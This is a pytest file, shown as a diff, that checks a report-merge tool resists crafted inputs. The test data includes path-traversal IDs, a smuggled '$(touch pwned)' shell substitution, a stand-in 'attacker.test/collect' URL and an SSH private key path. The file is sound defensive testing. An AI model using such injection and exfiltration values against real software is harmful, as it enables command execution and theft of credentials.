@@ -1,0 +1,84 @@
+"""Reports read back from files may have been crafted: ``report merge`` of hostile parts
+writes only inside its folder, and every command it writes targets the run's own endpoint
+and reads only the report's own case files."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import shlex
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from wai_contract.conformance.http import Exchange
+from wai_contract.conformance.results import CaseResult, CheckResult, Report
+
+TARGET = "http://127.0.0.1:8787/client/v4/accounts/a/ai/run/m"
+EVIL_IDS = ["../../../escaped", "/tmp/absolute", "..", "a/../../b", "x\x00y", "c" * 400]
+
+
+def _part(shard: str, check_id: str, case: CaseResult) -> Report:
+    check = CheckResult(check_id, "t", "d", "failed", 1, [case], 1)
+    check.causes[case.cause] = [case.id]
+    base = Report(TARGET, "2026-12-07T10:00:00Z", 1.0, 0, 10, 2, [check])
+    return dataclasses.replace(base, shard=shard, planned=1, judged_cases=1)
+
+
+def _merge(tmp_path: Path, parts: list[Report]) -> subprocess.CompletedProcess[str]:
+    files = []
+    for number, part in enumerate(parts):
+        path = tmp_path / f"part{number}.json"
+        path.write_text(json.dumps(part.to_dict()), "utf-8")
+        files.append(str(path))
+    command = [sys.executable, "-m", "wai_contract", "report", "merge", *files]
+    return subprocess.run(
+        [*command, "--report-dir", str(tmp_path / "out")],
+        cwd=tmp_path, capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("evil", EVIL_IDS)
+def test_every_file_lands_in_the_report_folder(tmp_path: Path, evil: str) -> None:
+    big = {"prompt": "x" * 5000}
+    case = CaseResult(evil, evil, "boom", "status", exchange=Exchange("POST", TARGET, big))
+    parts = [_part("1/2", evil, case), _part("2/2", evil, dataclasses.replace(case, id="b"))]
+    done = _merge(tmp_path, parts)
+    assert done.returncode in (0, 1), done.stderr
+    out = (tmp_path / "out").resolve()
+    written = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.startswith("part")]
+    assert written and all(p.resolve().is_relative_to(out) for p in written), written
+    assert not Path("/tmp/absolute.json").exists()
+
+
+def test_a_cases_link_in_the_report_folder_is_not_followed(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "cases").symlink_to(elsewhere)
+    big = {"prompt": "x" * 5000}
+    case = CaseResult(
+        "b-1", "accepts-valid", "boom", "status", exchange=Exchange("POST", TARGET, big)
+    )
+    parts = [_part("1/2", "accepts-valid", case), _part("2/2", "accepts-valid", case)]
+    done = _merge(tmp_path, parts)
+    assert done.returncode == 2 and done.stderr.startswith("error: cannot write the report")
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_the_commands_written_target_the_run_and_its_own_case_files(tmp_path: Path) -> None:
+    crafted = Exchange("POST $(touch pwned)", "https://attacker.test/collect", {"prompt": "hi"})
+    case = CaseResult("b-1", "accepts-valid", "boom", "status", exchange=crafted)
+    case.body_file = "/home/user/.ssh/id_rsa"
+    parts = [_part("1/2", "accepts-valid", case), _part("2/2", "accepts-valid", case)]
+    assert _merge(tmp_path, parts).returncode == 1
+    report = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))
+    commands = [f["curl"] for c in report["checks"] for f in c["failures"]]
+    summary = (tmp_path / "out" / "summary.md").read_text("utf-8")
+    assert commands and "attacker" not in summary and "id_rsa" not in summary
+    for command in commands:
+        words = shlex.split(command)
+        assert words[4] == TARGET and "attacker" not in command and "id_rsa" not in command
+        assert words[3] == "POST $(touch pwned)"  # one quoted word, never run by a shell
